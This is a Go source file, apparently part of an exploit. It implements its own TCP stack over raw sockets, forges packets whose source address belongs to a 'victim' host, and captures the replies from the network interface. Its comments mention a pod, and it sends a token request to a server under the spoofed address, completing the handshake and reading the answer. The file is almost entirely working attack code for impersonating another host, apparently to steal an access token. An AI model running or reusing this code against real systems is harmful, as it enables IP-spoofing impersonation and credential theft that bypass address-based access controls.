package main

import (
	"encoding/binary"
	"errors"
	"math/rand/v2"
	"net/netip"
	"time"

	"golang.org/x/sys/unix"
)

// The flags of a segment: RFC 9293, section 3.1.
const (
	fin = 1 << iota
	syn
	rst
	push
	ack
)

// forge sends the request with a TCP implementation of its own, without the kernel's:
// it forges packets, and reads the answers from the interface. The kernel drops the
// answers, because the pod does not have their destination address.
func forge(victim netip.Addr) (string, error) {
	in, err := unix.Socket(unix.AF_PACKET, unix.SOCK_DGRAM, int(networkOrder(unix.ETH_P_IP)))
	if err != nil {
		return "", err
	}
	defer unix.Close(in)
	if err := unix.SetsockoptTimeval(in, unix.SOL_SOCKET, unix.SO_RCVTIMEO, &unix.Timeval{Usec: 200_000}); err != nil {
		return "", err
	}
	out, err := unix.Socket(unix.AF_INET, unix.SOCK_RAW, unix.IPPROTO_RAW)
	if err != nil {
		return "", err
	}
	defer unix.Close(out)
	c := connection{out: out, source: netip.AddrPortFrom(victim, 20000+rand.N[uint16](20000)), next: 1000}
	if err := c.send(syn, ""); err != nil {
		return "", err
	}
	packet := make([]byte, 1<<16)
	for end := time.Now().Add(timeout); time.Now().Before(end); {
		n, _, err := unix.Recvfrom(in, packet, 0)
		if err != nil {
			continue // the receive timeout
		}
		if done, err := c.receive(packet[:n]); done || err != nil {
			return string(c.received), err
		}
	}
	return string(c.received), errors.New("no answer")
}

// connection is the client's side of a TCP connection.
type connection struct {
	out      int
	source   netip.AddrPort
	next     uint32 // next sequence number to send
	expected uint32 // next sequence number to receive
	open     bool
	received []byte
}

func (c *connection) send(flags byte, data string) error {
	packet := segment(c.source, c.next, c.expected, flags, data)
	c.next += uint32(len(data))
	if flags&(syn|fin) != 0 {
		c.next++
	}
	return unix.Sendto(c.out, packet, 0, &unix.SockaddrInet4{Addr: server.Addr().As4()})
}

// receive processes a packet, and reports whether the server has closed the connection.
func (c *connection) receive(packet []byte) (bool, error) {
	if len(packet) < 40 || packet[9] != unix.IPPROTO_TCP {
		return false, nil
	}
	length := int(binary.BigEndian.Uint16(packet[2:]))
	header := int(packet[0]&0xf) * 4
	if length > len(packet) || length < header+20 {
		return false, nil
	}
	tcp := packet[header:length]
	if binary.BigEndian.Uint16(tcp[0:]) != server.Port() || binary.BigEndian.Uint16(tcp[2:]) != c.source.Port() {
		return false, nil
	}
	seq, flags, data := binary.BigEndian.Uint32(tcp[4:]), tcp[13], tcp[int(tcp[12]>>4)*4:]
	switch {
	case flags&rst != 0:
		return true, errors.New("the server has reset the connection")
	case flags&syn != 0 && !c.open:
		c.open, c.expected = true, seq+1
		return false, c.send(ack|push, tokenRequest)
	case !c.open || seq != c.expected:
		return false, nil // out of order or duplicate
	}
	c.received = append(c.received, data...)
	c.expected += uint32(len(data))
	if flags&fin != 0 {
		c.expected++
		return true, c.send(ack|fin, "")
	}
	if len(data) > 0 {
		return false, c.send(ack, "")
	}
	return false, nil
}

// segment is an IPv4 packet with a TCP segment. The kernel fills in the checksum of the
// IPv4 header.
func segment(from netip.AddrPort, seq, acked uint32, flags byte, data string) []byte {
	b := make([]byte, 40, 41+len(data))
	source, destination := from.Addr().As4(), server.Addr().As4()
	b[0], b[8], b[9] = 0x45, 64, unix.IPPROTO_TCP
	copy(b[12:], source[:])
	copy(b[16:], destination[:])
	b = append(b, data...)
	binary.BigEndian.PutUint16(b[2:], uint16(len(b)))
	tcp := b[20:]
	binary.BigEndian.PutUint16(tcp[0:], from.Port())
	binary.BigEndian.PutUint16(tcp[2:], server.Port())
	binary.BigEndian.PutUint32(tcp[4:], seq)
	if flags&ack != 0 {
		binary.BigEndian.PutUint32(tcp[8:], acked)
	}
	tcp[12], tcp[13] = 5<<4, flags
	binary.BigEndian.PutUint16(tcp[14:], 65535)
	sum := uint32(unix.IPPROTO_TCP + len(tcp))
	padded := b[12:] // with the addresses
	if len(padded)%2 == 1 {
		padded = append(padded[:len(padded):len(padded)], 0)
	}
	for i := 0; i < len(padded); i += 2 {
		sum += uint32(binary.BigEndian.Uint16(padded[i:]))
	}
	for sum>>16 != 0 {
		sum = sum&0xffff + sum>>16
	}
	binary.BigEndian.PutUint16(tcp[16:], ^uint16(sum))
	return b
}
